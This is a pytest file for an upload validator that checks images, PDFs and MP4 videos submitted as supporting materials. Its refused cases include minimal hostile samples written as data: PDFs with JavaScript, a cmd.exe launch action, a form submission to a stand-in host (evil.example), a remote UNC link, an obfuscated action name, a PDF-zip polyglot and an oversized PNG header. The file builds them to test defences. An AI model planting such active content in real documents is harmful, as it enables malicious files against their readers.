"""V4: supporting materials: pictures, PDF, video, by content and to the end."""

from __future__ import annotations

import io
import zlib

import av
import pikepdf
import pytest
from PIL import Image

from services.validation.domain.findings import Outcome
from tests.validation.conftest import Check


def picture(format_: str, size: tuple[int, int] = (64, 48), **options: object) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 50).convert("RGB").save(out, format_, **options)
    return out.getvalue()


def pdf(edit: str = "", *, pages: int = 1, **save: object) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as document:
        for _ in range(pages):
            document.add_blank_page()
        if edit:
            document.Root.Probe = document.make_indirect(pikepdf.Object.parse(edit.encode()))
        document.save(out, **save)  # type: ignore[arg-type] # options of the one caller below
    return out.getvalue()


def video(*, audio_only: bool = False) -> bytes:
    out = io.BytesIO()
    with av.open(out, "w", format="mp4") as container:
        if audio_only:
            sound = container.add_stream("aac", rate=8000)
            frame = av.AudioFrame(format="fltp", layout="mono", samples=1024)
            frame.sample_rate = 8000
            for plane in frame.planes:
                plane.update(bytes(plane.buffer_size))
            container.mux(sound.encode(frame))
            container.mux(sound.encode(None))
        else:
            stream = container.add_stream("mpeg4", rate=10)
            stream.width, stream.height, stream.pix_fmt = 64, 48, "yuv420p"
            for _ in range(10):
                container.mux(stream.encode(av.VideoFrame(64, 48, "yuv420p")))
            container.mux(stream.encode(None))
    return out.getvalue()


def huge_png() -> bytes:
    """A small file that claims 50 000 pixels a side."""
    header = b"IHDR" + (50_000).to_bytes(4, "big") * 2 + PNG[24:29]
    return PNG[:12] + header + zlib.crc32(header).to_bytes(4, "big") + PNG[33:]


JPG, PNG, MP4 = picture("JPEG"), picture("PNG"), video()
ACCEPTED = {
    "a.jpg": JPG,
    "a.jpeg": JPG,
    "a.JPG": JPG,
    "a.png": PNG,
    "a.gif": picture("GIF"),
    "a.bmp": picture("BMP"),
    "a.webp": picture("WEBP"),
    "a.pdf": pdf(),
    "a.mp4": MP4,
    "links.pdf": pdf("<< /S /URI /URI (https://www.smartedu.cn) >>"),
    "goto.pdf": pdf("<< /S /GoTo /D [0 /Fit] >>"),
}


@pytest.mark.parametrize(("name", "content"), ACCEPTED.items())
def test_honest_materials_pass(check: Check, name: str, content: bytes) -> None:
    verdict = check(content, name, as_="material")
    assert (verdict.outcome, verdict.findings) == (Outcome.PASSED, ())


REFUSED = {
    "cut jpg": ("a.jpg", JPG[: len(JPG) // 2], "TRUNCATED"),
    "cut png": ("a.png", PNG[: len(PNG) // 2], "TRUNCATED"),
    "cut mp4": ("a.mp4", MP4[: len(MP4) // 3], "TRUNCATED"),
    "sound only": ("a.mp4", video(audio_only=True), "NO_VIDEO_TRACK"),
    "not really jpg": ("a.jpg", b"\xff\xd8\xff\xe0" + b"x" * 100, "CORRUPT"),
    "too many pixels": (
        "a.png",
        huge_png(),
        "PIXEL_LIMIT",
    ),
    "tiff": ("a.tif", picture("TIFF"), "TYPE_NOT_ALLOWED"),
    "png renamed to mp4": ("a.mp4", PNG, "TYPE_MISMATCH"),
    "program": ("a.exe", b"MZ" + b"\0" * 100, "TYPE_NOT_ALLOWED"),
    "program as pdf": ("a.pdf", b"MZ" + b"\0" * 100, "TYPE_NOT_ALLOWED"),
    "empty": ("a.pdf", b"", "EMPTY_FILE"),
    "cut pdf": ("a.pdf", pdf(pages=3)[:300], "TRUNCATED"),
    "pdf of nothing": ("a.pdf", b"%PDF-1.7\n%%EOF\n", "CORRUPT"),
    "script": ("a.pdf", pdf("<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), "ACTIVE_CONTENT"),
    "nested script": ("a.pdf", pdf("<< /A [ << /B << /S /JavaScript /JS (x) >> >> ] >>"), "ACTIVE_CONTENT"),
    "named scripts": ("a.pdf", pdf("<< /Names << /JavaScript << /Names [] >> >> >>"), "ACTIVE_CONTENT"),
    "escaped name": ("a.pdf", pdf("<< /S /J#61vaScript /JS (x) >>"), "ACTIVE_CONTENT"),
    "script in an object stream": (
        "a.pdf",
        pdf("<< /S /JavaScript /JS (x) >>", object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "ACTIVE_CONTENT",
    ),
    "launch": ("a.pdf", pdf("<< /S /Launch /F (cmd.exe) >>"), "ACTIVE_CONTENT"),
    "send form": ("a.pdf", pdf("<< /S /SubmitForm /F (http://evil.example) >>"), "ACTIVE_CONTENT"),
    "remote goto": ("a.pdf", pdf("<< /S /GoToR /F (\\\\\\\\10.0.0.1\\\\a.pdf) >>"), "ACTIVE_CONTENT"),
    "xfa": ("a.pdf", pdf("<< /XFA [] >>"), "ACTIVE_CONTENT"),
    "rich media": ("a.pdf", pdf("<< /Subtype /RichMedia >>"), "ACTIVE_CONTENT"),
    "attachment": ("a.pdf", pdf("<< /Type /Filespec /EF << >> >>"), "EMBEDDED_OBJECT"),
    "attachments by name": ("a.pdf", pdf("<< /EmbeddedFiles << >> >>"), "EMBEDDED_OBJECT"),
    "password": ("a.pdf", pdf(encryption=pikepdf.Encryption(user="a", owner="b")), "ENCRYPTED"),
    "pdf and zip in one": ("a.pdf", pdf() + b"PK\x03\x04PK\x05\x06" + b"\0" * 18, "ARCHIVE_HAZARD"),
}


@pytest.mark.parametrize(("name", "content", "code"), REFUSED.values(), ids=REFUSED.keys())
def test_faulty_materials_fail(check: Check, name: str, content: bytes, code: str) -> None:
    verdict = check(content, name, as_="material")
    assert code in [finding.code for finding in verdict.findings]
    assert verdict.outcome == Outcome.FAILED


def test_a_pdf_locked_against_copying_is_a_remark(check: Check) -> None:
    verdict = check(pdf(encryption=pikepdf.Encryption(user="", owner="b")), "a.pdf", as_="material")
    assert (verdict.outcome, [f.code for f in verdict.findings]) == (Outcome.REMARKS, ["EDIT_PROTECTED"])


def test_a_png_called_jpg_is_only_told(check: Check) -> None:
    verdict = check(PNG, "a.jpg", as_="material")
    assert (verdict.outcome, [f.code for f in verdict.findings]) == (Outcome.PASSED, ["NAME_DIFFERS"])


def test_a_refused_type_is_named_with_what_to_do(check: Check) -> None:
    verdict = check(b"Rar!\x1a\x07\x00", "材料.rar", as_="material")
    assert verdict.findings[0].message == (
        "文件的真实类型是RAR 压缩包（请解压后逐个上传），不在可上传的范围内。"
        "支撑材料可以上传 PPT、图片（JPG、PNG、GIF、BMP、WebP）、PDF、MP4 视频、Word 和 Excel 文件。"
    )
